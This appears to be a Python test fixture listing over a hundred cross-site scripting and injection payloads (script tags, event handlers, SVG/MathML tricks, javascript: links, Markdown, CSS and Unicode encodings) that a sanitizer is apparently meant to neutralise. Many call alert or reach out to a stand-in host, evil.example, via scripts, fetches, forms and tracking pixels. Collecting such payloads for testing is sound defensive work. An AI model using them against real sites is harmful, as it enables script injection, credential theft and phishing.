"""What somebody writes who would like a page to do something: over a hundred texts, none of which may do anything.

Whatever runs calls alert("xss"), navigates, or asks https://evil.example for something.
"""

from __future__ import annotations

from typing import Final

EVIL: Final = "https://evil.example"
_DO: Final = 'alert("xss")'
_ASK: Final = f"fetch('{EVIL}/x')"

TAGS: Final = (
    f"<script>{_DO}</script>", f"<script src={EVIL}/x.js></script>", f"<SCRIPT>{_DO}</SCRIPT >", f"<script/x>{_DO}</script>",
    f"<scr<script>ipt>{_DO}</scr</script>ipt>", f"<script>/*</title><textarea>*/{_DO}</script>", f"\"><script>{_DO}</script>",
    f"'><script>{_DO}</script>", f"</script><script>{_DO}</script>", f"</title><script>{_DO}</script>",
    f"</textarea><script>{_DO}</script>", f"</pre></code><script>{_DO}</script>", f"--><script>{_DO}</script><!--",
    f"]]><script>{_DO}</script>", f"<!--><script>{_DO}</script>", f"<script type=module>import '{EVIL}/x.js'</script>",
    f"<iframe src=javascript:{_DO}></iframe>", f"<iframe srcdoc='<script>parent.{_DO}</script>'></iframe>",
    f"<iframe src={EVIL}></iframe>", f"<object data=javascript:{_DO}></object>", f"<object data={EVIL}/x.swf></object>",
    f"<embed src={EVIL}/x.svg>", f"<base href={EVIL}/>", f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<link rel=prefetch href={EVIL}/x>", f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<form action={EVIL}><input name=key><button>Approve</button></form>", f"<img src={EVIL}/pixel.png>",
    f"<video poster={EVIL}/x.png></video>", f"<audio src={EVIL}/x.mp3 autoplay></audio>", f"<picture><source srcset={EVIL}/x.png><img></picture>",
    f"<table background={EVIL}/x.png><tr><td>x</td></tr></table>", f"<portal src={EVIL}></portal>",
)  # fmt: skip

HANDLERS: Final = (
    f"<img src=x onerror='{_DO}'>", f"<img/src=x/onerror={_DO}>", f"<img src=x onerror=`{_DO}`>",
    f"<IMG SRC=x OnErRoR={_DO}>", f"<img src onerror ={_DO}//", f"<body onload={_DO}>", f"<svg onload={_DO}>", f"<svg/onload={_DO}//",
    f"<input autofocus onfocus={_DO}>", f"<select autofocus onfocus={_DO}></select>", f"<textarea autofocus onfocus={_DO}></textarea>",
    f"<details open ontoggle={_DO}>x</details>", f"<marquee onstart={_DO}>x</marquee>", f"<video onloadstart={_DO} src=x></video>",
    f"<video><source onerror={_DO}></video>", f"<audio src=x onerror={_DO}></audio>", f"<div onpointerenter={_DO} style='position:fixed;inset:0'>x</div>",
    f"<div onmouseover={_DO}>over</div>", f"<a onclick={_DO}>click</a>", f"<button onclick={_DO} autofocus>Approve</button>",
    f"<style onload={_DO}></style>", f"<link rel=stylesheet href=x onerror={_DO}>", f"<object onerror={_DO} data=x></object>",
    f"<iframe onload={_DO}></iframe>", f"<div style='animation: spin 1s' onanimationstart={_DO}>x</div>",
    f"<x contenteditable onblur={_DO} tabindex=1 id=x>x</x>", f"\" onmouseover={_DO} x=\"", f"' autofocus onfocus='{_DO}",
    f"` onmouseover={_DO} `", f"x\" onerror=\"{_DO}\" src=\"x",
)  # fmt: skip

FOREIGN: Final = (
    f"<svg><script>{_DO}</script></svg>", f"<svg><script href={EVIL}/x.js /></svg>", f"<svg><a href=javascript:{_DO}><text y=9>x</text></a></svg>",
    f"<svg><animate onbegin={_DO} attributeName=x dur=1s>", f"<svg><set attributeName=href to=javascript:{_DO} />",
    "<svg><use href=data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+ />", f"<svg><image href={EVIL}/x.png /></svg>",
    f"<svg><foreignObject><iframe src=javascript:{_DO}></iframe></foreignObject></svg>", f"<svg><style>@import '{EVIL}/x.css';</style></svg>",
    f"<math><mtext><script>{_DO}</script></mtext></math>", f"<math href=javascript:{_DO}>x</math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{_DO}>x</maction></math>",
    f"<math><mi><table><mglyph><style><img src=x onerror={_DO}></style></mglyph></table></mi></math>",
    f"<template><script>{_DO}</script></template>", f"<template shadowrootmode=open><img src=x onerror={_DO}></template>",
    f"<noscript><p title=\"</noscript><img src=x onerror={_DO}>\"></noscript>", f"<xmp><p title=\"</xmp><img src=x onerror={_DO}>\">",
    f"{{{{constructor.constructor('{_DO}')()}}}}", f"${{{_DO}}}", f"<%= {_DO} %>", f"#{{{_DO}}}", f"{{% {_DO} %}}",
)  # fmt: skip

LINKS: Final = (
    f"javascript:{_DO}", f"JaVaScRiPt:{_DO}", f"java\tscript:{_DO}", f"java\nscript:{_DO}", f" \u0001javascript:{_DO}", f"javascript&colon;{_DO}",
    f"javascript&#58;{_DO}", f"vbscript:{_DO}", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "//evil.example/x", "\\\\evil.example\\x", "/\\evil.example", "https:evil.example", f"{EVIL}@127.0.0.1/", "file:///etc/passwd",
    "blob:https://evil.example/x", f"view-source:{EVIL}", "about:srcdoc",
)  # fmt: skip

MARKDOWN: Final = (
    f"![x]({EVIL}/pixel.png)", f"![x][p]\n\n[p]: {EVIL}/pixel.png", f"[click](javascript:{_DO})", "[click](javascript&colon;alert%281%29)",
    f"[click](JAVASCRIPT:{_DO})", "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[click](vbscript:alert)",
    f"[click](java\tscript:{_DO})", "[click](\u0001javascript:alert)", f"[click][j]\n\n[j]: javascript:{_DO}", f"<javascript:{_DO}>",
    f"<{EVIL}/auto>", "[settings](/settings)", "[up](../../keys)", "[proto](//evil.example)", f"[![x]({EVIL}/p.png)](javascript:{_DO})",
    f"[x]({EVIL} \"\\\" onmouseover={_DO} \")", f"[x](<javascript:{_DO}>)", f"> <script>{_DO}</script>", f"```html\n<script>{_DO}</script>\n```",
    f"- <img src=x onerror={_DO}>", f"# <svg onload={_DO}>", f"| a |\n|---|\n| <img src=x onerror={_DO}> |", f"<a href=\"javascript:{_DO}\">raw</a>",
    f"<details open ontoggle={_DO}><summary>x</summary></details>", f"[^1]\n\n[^1]: <script>{_DO}</script>", f"- [ ] <input autofocus onfocus={_DO}>",
    f"[x]: {EVIL}/definition\n\n[x]", f"$\\href{{javascript:{_DO}}}{{x}}$", f"![x](data:image/svg+xml,<svg onload={_DO}>)",
)  # fmt: skip

STYLES: Final = (
    f"<style>@import '{EVIL}/x.css'; main {{ display: none }}</style>", f"<div style=\"background:url({EVIL}/x.png)\">x</div>",
    "<div style=\"position:fixed;inset:0;background:red;z-index:9999\">over all</div>", f"<p style=width:expression({_DO})>x</p>",
    f"<p style=behavior:url({EVIL}/x.htc)>x</p>", f"</style><img src=x onerror={_DO}>", f"}} * {{ background: url({EVIL}/x.png) }}",
    f"url(javascript:{_DO})", "color: red; --x: ", f"\\3c script>{_DO}</script>",
)  # fmt: skip

UNICODE: Final = (
    f"\uff1cscript\uff1e{_DO}\uff1c/script\uff1e", f"<\u200bscript>{_DO}</script>", f"\u202e<script>{_DO}</script>\u202c",
    f"\u2066<img src=x onerror={_DO}>\u2069", f"%3Cscript%3E{_DO}%3C/script%3E", f"&lt;script&gt;{_DO}&lt;/script&gt;",
    f"&#60;img src=x onerror={_DO}&#62;", f"\\u003cimg src=x onerror={_DO}\\u003e", f"\\x3cscript\\x3e{_DO}\\x3c/script\\x3e",
    f"+ADw-script+AD4-{_DO}+ADw-/script+AD4-", f"\u2028<script>{_DO}</script>\u2029", f"\ufeff<svg onload={_DO}>", f"<\u0130mg src=x onerror={_DO}>",
    f"\u017fcript:{_DO}", f"<img src=x o\u017anerror={_DO}>", "\U000e0041\U000e0042 tagged", f"<scr\u00adipt>{_DO}</scr\u00adipt>",
    "a\u0301" + "\u0301" * 40 + f"<img src=x onerror={_DO}>", "__proto__", "constructor", "toString", f"-'{_ASK}'-",
)  # fmt: skip

PAYLOADS: Final = (*TAGS, *HANDLERS, *FOREIGN, *LINKS, *MARKDOWN, *STYLES, *UNICODE)
